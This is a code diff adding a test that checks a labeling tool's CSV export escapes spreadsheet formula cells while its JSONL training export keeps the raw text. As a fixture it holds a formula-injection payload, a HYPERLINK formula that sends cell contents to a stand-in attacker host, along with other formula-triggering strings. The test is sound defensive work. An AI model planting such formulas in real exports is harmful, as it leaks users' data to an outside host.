@@ -225,3 +225,26 @@ def test_evaluation_rows_export_their_templates_turns_or_are_left_out_with_a_rea
 
     records = feedback_records(Settings(data_dir=tmp_path))  # training on the feedback store: the same rule
     assert [r["id"] for r in records] == [rebuilt.id] and records[0]["messages"][:-1] == turns
+
+
+def test_csv_export_writes_formula_cells_as_text_and_jsonl_stays_raw(db, tmp_path):
+    """A labeler's ``=HYPERLINK(...)`` (or an item's ``@SUM``/``+``/``-`` text) must not run when an admin opens
+    the review CSV in a spreadsheet; the training JSONL keeps the exact text."""
+    link = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    fs.create_queue(db, "fix-csv", "correction")
+    item = fs.add_item(db, "fix-csv", source="t", prompt="@SUM(A1:A9)", output="-2+3")[0]
+    fs.respond(db, item.id, "lab", link)
+    path = tmp_path / "fix.csv"
+    export_file(db, "fix-csv", "csv", path)
+    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
+    assert (row["prompt"], row["output"], row["response:lab"], row["accepted"]) == (
+        "'@SUM(A1:A9)",
+        "'-2+3",
+        "'" + link,
+        "'" + link,
+    )
+    assert row["item_id"] == str(item.id)
+
+    sft = tmp_path / "fix.jsonl"
+    export_file(db, "fix-csv", "sft", sft)
+    assert json.loads(sft.read_text(encoding="utf-8"))["messages"][-1]["content"] == link
